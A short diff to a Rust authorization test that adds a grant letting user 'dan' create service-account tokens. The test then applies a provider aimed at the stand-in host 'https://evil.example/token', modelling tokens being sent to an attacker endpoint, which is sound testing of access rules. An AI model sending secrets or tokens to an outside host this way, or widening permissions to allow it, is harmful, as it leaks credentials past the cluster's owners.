@@ -273,6 +273,8 @@ pub async fn a_provider_is_written_by_those_who_read_secrets(env: Arc<Env>) {
     dan.may_on_secrets("get", "").await;
     assert_refused(apply("https://evil.example/token").await, "dan may not update the Secrets");
     dan.may_on_secrets("update", "").await;
+    // Asked for by the policies of other tests' releases, whose operators serve some namespaces alone.
+    dan.may("create", "", "serviceaccounts/token", "").await;
     let taken = apply("https://evil.example/token").await;
     taken.expect("dan may read all that is sent there, and write what comes of it");
 
